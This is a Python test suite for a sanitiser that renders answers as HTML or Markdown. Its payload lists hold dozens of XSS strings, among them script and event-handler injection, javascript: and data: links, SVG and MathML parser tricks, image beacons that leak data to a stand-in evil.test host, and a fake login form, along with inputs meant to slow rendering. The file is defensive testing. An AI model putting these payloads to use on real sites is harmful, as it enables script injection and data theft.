"""What a page shows of an answer can do nothing: no script, no request, no false form."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.formats import render_html
from app.formats.display import MAX_LENGTH, MAX_TAGS

ALLOWED_ATTRIBUTES = {"href", "title", "rel", "start", "colspan", "rowspan", "scope"}
NEVER = {
    "applet", "audio", "base", "body", "button", "canvas", "embed", "form", "frame", "frameset",
    "head", "html", "iframe", "img", "input", "link", "math", "meta", "noscript", "object",
    "picture", "script", "select", "source", "style", "svg", "template", "textarea", "title",
    "track", "video",
}  # fmt: skip


class Harm(HTMLParser):
    """Notes everything in a page that could act: tags, attributes and targets not allowed."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in NEVER:
            self.found.append(tag)
        for name, value in attrs:
            if name not in ALLOWED_ATTRIBUTES:
                self.found.append(f"{tag} {name}")
            if name == "href" and not (value or "").lower().startswith(
                ("http://", "https://", "mailto:")
            ):
                self.found.append(f"href {value}")
        if tag == "a" and dict(attrs).get("rel") != "noopener noreferrer nofollow":
            self.found.append("a without rel")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"declaration {decl}")


def harm_in(html: str | None) -> list[str]:
    assert html is not None
    harm = Harm()
    harm.feed(html)
    harm.close()
    return harm.found


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.test/?leak=secret">',
    "<image src=https://evil.test/x>",
    "<picture><source srcset=https://evil.test/x></picture>",
    "<video poster=https://evil.test/x src=https://evil.test/y autoplay></video>",
    "<audio src=https://evil.test/x autoplay></audio>",
    "<p onclick=alert(1) onmouseover='alert(1)'>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.test">x</a>',
    '<a href="/api/v1/keys">x</a>',
    '<a href="?delete=1">x</a>',
    '<a href="#" id=x name=y class=btn style="position:fixed" target=_blank ping=//evil.test>x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text>x</text></a></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe src=https://evil.test></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=1&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><img src=x onerror=alert(1)></template>',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<iframe src=https://evil.test></iframe>",
    "<object data=https://evil.test></object><embed src=https://evil.test>",
    "<base href=https://evil.test>",
    '<meta http-equiv=refresh content="0;url=https://evil.test">',
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<form action=https://evil.test><input name=password><button>Log in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<div style=\"background:url(https://evil.test)\">x</div>",
    "<table background=https://evil.test><td background=https://evil.test>x</td></table>",
    "<body onload=alert(1) background=https://evil.test>",
    "<html><head><title>x</title></head><body>x</body></html>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<!doctype html>",
    "<?php system('x') ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "</pre><script>alert(1)</script>",
    "<p title='&lt;img src=x onerror=alert(1)&gt;'>x</p>",
    "<a href='https://ok.test' onfocus=alert(1) autofocus>x</a>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>x</x>",
    "<p/onclick=alert(1)>x",
    "<p\x0conclick=alert(1)>x",
    "<img/src=x/onerror=alert(1)//",
    "<a href=https://ok.test/\"onmouseover=alert(1)>x",
    "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]  # fmt: skip

HOSTILE_MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.test)",
    "[x](/logout)",
    '[x](https://ok.test "\\"onmouseover=alert(1)")',
    "![x](https://evil.test/?leak=secret)",
    "![x][1]\n\n[1]: https://evil.test/?leak=secret",
    "[![x](https://evil.test/a.png)](https://evil.test)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '<https://evil.test/"onmouseover=alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    "`<script>alert(1)</script>`",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "|a|\n|:-:|\n|<img src=x onerror=alert(1)>|",
    "# <svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("text", HOSTILE + HOSTILE_MARKDOWN)
@pytest.mark.parametrize("format", ["markdown", "html"])
def test_hostile_output_can_do_nothing(format: str, text: str) -> None:
    for wrapped in (text, f"before {text} after", f"> - {text}", f"```{format}\n{text}\n```"):
        assert harm_in(render_html(format, wrapped)) == []


@pytest.mark.parametrize("text", HOSTILE)
def test_sanitised_html_stays_the_same_when_sanitised_again(text: str) -> None:
    once = render_html("html", text)

    assert once is not None
    assert render_html("html", once) == once


@given(
    st.lists(st.sampled_from([*HOSTILE, "<", ">", "</", "<!--", "-->", "'", '"', "x"]), max_size=6)
)
def test_no_mixture_of_hostile_pieces_does_harm(pieces: list[str]) -> None:
    assert harm_in(render_html("html", "".join(pieces))) == []
    assert harm_in(render_html("markdown", "".join(pieces))) == []


def test_the_check_itself_finds_harm() -> None:
    assert harm_in('<img src=x><a href="javascript:x">x</a><p onclick=x><!-- x -->') == [
        "img",
        "img src",
        "href javascript:x",
        "a without rel",
        "p onclick",
        "comment  x ",
    ]


@pytest.mark.parametrize("text", ["<script>let x</script>", "<style>x</style>", "<title>x</title>"])
def test_what_was_never_text_to_read_leaves_nothing(text: str) -> None:
    assert render_html("html", f"<p>a</p>{text}") == "<p>a</p>"


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# Title\n\ntext", "<h1>Title</h1>\n<p>text</p>\n"),
        ("**b** *i* ~~s~~ `c`", "<p><strong>b</strong> <em>i</em> <s>s</s> <code>c</code></p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>\n'),
        ("> q", "<blockquote>\n<p>q</p>\n</blockquote>\n"),
        ("```python\n1 < 2\n```", "<pre><code>1 &lt; 2\n</code></pre>\n"),
        ("<b>x</b>", "<p>&lt;b&gt;x&lt;/b&gt;</p>\n"),
        (
            "[x](https://ok.test/?a=1&b=2)",
            '<p><a href="https://ok.test/?a=1&amp;b=2" rel="noopener noreferrer nofollow">'
            "x</a></p>\n",
        ),
        (
            "<mailto:a@ok.test>",
            '<p><a href="mailto:a@ok.test" rel="noopener noreferrer nofollow">'
            "mailto:a@ok.test</a></p>\n",
        ),
        ("a ![b *c*](https://evil.test/x.png) d", "<p>a b *c* d</p>\n"),
        ("![<b>x</b>&](https://evil.test/x.png)", "<p>&lt;b&gt;x&lt;/b&gt;&amp;</p>\n"),
        ("```markdown\n# Title\n```", "<h1>Title</h1>\n"),
        ("```md\n# a\n```\nrest", "<pre><code># a\n</code></pre>\n<p>rest</p>\n"),
        ("", ""),
    ],
)
def test_markdown_becomes_plain_html(text: str, html: str) -> None:
    assert render_html("markdown", text) == html


def test_a_markdown_table_becomes_a_table() -> None:
    html = render_html("markdown", "| a | b |\n|---|--:|\n| 1 | 2 |")

    assert html
    assert "<th>a</th>" in html
    assert "<td>2</td>" in html


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("<h1>T</h1><p>a <b>b</b></p>", "<h1>T</h1><p>a <b>b</b></p>"),
        (
            "<table><tr><td colspan=2>a</td></tr></table>",
            '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>',
        ),
        ("<section><div>a</div></section>", "<section><div>a</div></section>"),
        ("plain & simple < text", "plain &amp; simple &lt; text"),
        ("```html\n<p>a</p>\n```", "<p>a</p>"),
        ("<p>unclosed", "<p>unclosed</p>"),
        ("", ""),
    ],
)
def test_harmless_html_is_kept(text: str, html: str) -> None:
    assert render_html("html", text) == html


@pytest.mark.parametrize("format", ["text", "json"])
def test_other_formats_have_no_html(format: str) -> None:
    assert render_html(format, "<b>x</b>") is None


@pytest.mark.parametrize("format", ["markdown", "html"])
def test_a_very_long_answer_is_shown_unformatted(format: str) -> None:
    text = "<script>&" + "x" * MAX_LENGTH

    assert render_html(format, text) == "<pre>&lt;script&gt;&amp;" + "x" * MAX_LENGTH + "</pre>"


def test_html_of_very_many_tags_is_shown_unformatted() -> None:
    html = render_html("html", "<b>" * (MAX_TAGS + 1))

    assert html
    assert html.startswith("<pre>&lt;b&gt;")


@pytest.mark.parametrize(("columns", "rows"), [(400, 1_000), (4_000, 500), (40, 10_000)])
@pytest.mark.parametrize("before", ["", "> ", "  - "])
def test_markdown_of_very_many_empty_cells_is_shown_unformatted(
    columns: int, rows: int, before: str
) -> None:
    text = f"{before}{'|a' * columns}\n{before}{'|-' * columns}\n" + f"{before}|a\n" * rows

    html = render_html("markdown", text)

    assert html
    assert html.startswith("<pre>")


def test_a_large_markdown_table_is_a_table_still() -> None:
    text = "|a" * 20 + "\n" + "|-" * 20 + "\n" + "|a" * 20 + ("\n" + "|a" * 20) * 1_000

    assert str(render_html("markdown", text)).count("<tr>") == 1_002


@pytest.mark.parametrize(
    ("format", "text"),
    [
        ("html", "<ul><li>" * 10_000),
        ("html", "<div>" * 19_000),
        ("html", "<a " + "x=1 " * 20_000 + ">"),
        ("html", "<b><i><u><a>" * 2_500 + "</b>" * 2_500),
        ("markdown", "[" * 90_000),
        ("markdown", "![" * 45_000),
        ("markdown", "*a _b " * 15_000),
        ("markdown", "> " * 45_000),
        ("markdown", " ".join("`" * i for i in range(1, 440))),
        ("markdown", "|" + "a|" * 400 + "\n|" + "-|" * 400 + "\n" + "x\n" * 48_000),
        ("markdown", "```" * 30_000),
    ],
    ids=range(11),
)
def test_a_hostile_answer_is_rendered_in_bounded_time(format: str, text: str) -> None:
    started = time.thread_time()

    render_html(format, text)

    assert time.thread_time() - started < 10  # without the bounds: minutes
